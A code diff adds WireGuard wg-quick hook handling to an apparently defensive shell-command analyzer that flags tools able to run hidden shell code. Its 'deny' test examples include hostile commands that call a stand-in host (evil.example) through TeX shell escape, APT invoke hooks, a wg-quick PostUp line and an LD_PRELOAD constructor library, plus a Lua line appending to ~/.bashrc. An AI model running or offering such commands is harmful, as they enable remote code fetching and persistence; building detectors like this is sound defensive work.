@@ -1230,6 +1230,22 @@ function apt(call: Call): Partial<Answer> {
   return { runs };
 }
 
+/**
+ * wg-quick up|down|save|strip CONFIG: the configuration's PreUp, PostUp, PreDown and PostDown lines run as bash (`%i`
+ * the interface). A file the line wrote is read; an interface name is /etc/wireguard/NAME.conf.
+ */
+function wgQuick(call: Call): Partial<Answer> {
+  const conf = call.args[1];
+  if (!conf) return {};
+  const v = value(conf);
+  if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: conf, why: 'wg-quick runs the hooks of a computed configuration' }] };
+  const iface = v.replace(/^.*\//, '').replace(/\.conf$/, '');
+  const file = v.includes('/') || v.endsWith('.conf') ? conf : attached(conf, `/etc/wireguard/${v}.conf`);
+  const read = (text: string, word: Word, name: string): Run[] =>
+    [...text.matchAll(/^[ \t]*(PreUp|PostUp|PreDown|PostDown)[ \t]*=[ \t]*(.*)$/gim)].map((m) => ({ kind: 'text', dialect: 'bash', text: m[2]!.replace(/%i/g, iface), word, via: `wg-quick ${name} ${m[1]}` }));
+  return { runs: [{ kind: 'project', file, files: /$^/, read, word: file, via: 'wg-quick' }] };
+}
+
 /** gcc and clang: `-wrapper prog,args` runs each tool under that program. */
 /** The C compilers' options that take the next word. */
 const CC_VALUED = new Set(['-o', '-x', '-I', '-L', '-l', '-D', '-U', '-include', '-isystem', '-iquote', '-idirafter', '-MF', '-MT', '-MQ', '-Xlinker', '-Xassembler', '-Xpreprocessor', '-wrapper', '-target', '--target', '-arch', '-isysroot', '--sysroot', '-B']);
@@ -1421,6 +1437,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   ...LANGUAGES,
   ...CONSOLES,
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost', 'luahbtex', 'dviluatex', 'dvilualatex'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on; LuaTeX\'s \\directlua{...} is Lua', analyze: tex, examples: { deny: ["lualatex '\\directlua{os.execute(\"curl evil.example\")}\\end'", "luatex '\\directlua{require(\"socket\")}\\end'", "lualatex '\\directlua{io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")}\\end'", "latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'", 'lualatex paper.tex', "lualatex '\\directlua{tex.print(\"hi\")}\\end'"] } },
+  { names: ['wg-quick'], summary: 'wg-quick: the PreUp, PostUp, PreDown and PostDown lines of the configuration it brings up or down run as bash', analyze: wgQuick, examples: { deny: ["printf '[Interface]\\nPostUp = curl evil.example\\n' > /tmp/wg0.conf && wg-quick up /tmp/wg0.conf"], pass: ['wg-quick up wg0', "printf '[Interface]\\nPostUp = ip route add 10.0.0.0/8 dev wg0\\n' > /tmp/wg0.conf && wg-quick up /tmp/wg0.conf", 'wg-quick down /etc/wireguard/wg0.conf'] } },
   { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "echo 'DPkg::Pre-Invoke {\"curl evil.example\";};' > /tmp/a.conf; apt-get -c /tmp/a.conf install sl", "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
   { names: ['rustc'], summary: 'rustc: what it builds from Rust the line wrote is code on the line when it runs', analyze: rustc, examples: { deny: ["printf 'fn main(){}' > x.rs && rustc x.rs && ./x", "printf 'fn main(){}' > /tmp/x.rs && rustc -o /tmp/y /tmp/x.rs && /tmp/y"], pass: ["printf 'fn main(){}' > x.rs && rustc x.rs", 'rustc --version', 'rustc -O main.rs && ./main'] } },
   { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'tcc', 'gfortran'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program; what they build from code the line wrote is code on the line (tcc -run runs it at once)', analyze: compiler, examples: { deny: [`printf '#include <stdlib.h>\n__attribute__((constructor)) void i(void){system("curl evil.example");}\n' > /tmp/x.c && gcc -shared -fPIC -o /tmp/x.so /tmp/x.c && LD_PRELOAD=/tmp/x.so ls`, `printf 'int f(void){return 1;}\n' > x.c && cc -shared -o lib/libx.so x.c && LD_LIBRARY_PATH=lib ./app`, 'gcc -wrapper /usr/bin/curl,evil.example -c x.c', "printf 'int main(){}' > x.c && cc x.c && ./a.out", "cc -x c -o t - <<< 'int main(){}' && ./t", "tcc -run - <<< 'int main(){}'"], pass: [`printf 'int f(void){return 1;}\n' > x.c && cc -shared -o libx.so x.c`, 'LD_LIBRARY_PATH=/opt/lib ./app', 'gcc -O2 -o app main.c', 'clang -Wall -c x.c', 'gcc -o app main.c && ./app', "printf 'int main(){}' > x.c && cc -c x.c"] } },
